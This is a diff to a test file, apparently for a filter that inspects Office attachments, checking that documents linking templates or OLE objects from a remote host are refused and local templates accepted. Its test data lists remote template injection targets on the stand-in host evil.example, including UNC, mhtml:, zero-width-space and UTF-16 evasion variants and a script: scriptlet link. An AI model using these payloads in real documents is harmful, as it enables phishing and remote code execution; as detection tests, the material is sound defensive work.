@@ -66,7 +66,7 @@ describe('office documents with macros', () => {
     expect(await send('通知.docx', await packed(plain))).toMatchObject(taken);
   });
 
-  it('that would be fetched with a template are refused as well, on whichever machine it lies', async () => {
+  it('that would be fetched with a template from another machine are refused as well, one of the own disk is not', async () => {
     const to = (target: string, type = 'attachedTemplate') => `<?xml version="1.0"?>
       <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1"
       Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}"
@@ -83,12 +83,19 @@ describe('office documents with macros', () => {
       'file:////evil.example/a.dotm',
       'file:\\\\evil.example\\a.dotm',
       'mhtml:https://evil.example/a.dotm',
+      '\u200b\\\\evil.example\\a.dotm',
+    ])
+      expect(await send('通知.docx', await named(to(target))), target).toMatchObject(reaches);
+    for (const target of [
       'file:///C:/Templates/a.dotx',
+      'file:///C:\\Users\\Templates\\a.dotx',
       'C:\\Templates\\a.dotx',
+      // As programs of a Mac write it.
       'file://localhost/Users/Templates/a.dotx',
       'Normal.dotm',
     ])
-      expect(await send('通知.docx', await named(to(target))), target).toMatchObject(reaches);
+      for (const type of ['attachedTemplate', 'externalLinkPath'])
+        expect(await send('通知.docx', await named(to(target, type))), target).toMatchObject(taken);
     const wide = Buffer.from(to('http://evil.example/a.dotm'), 'utf16le');
     expect(await send('通知.docx', await named(wide, 'other/_rels/any.xml.rels'))).toMatchObject(reaches);
     const object = to('script:http://evil.example/a.sct', 'oleObject');
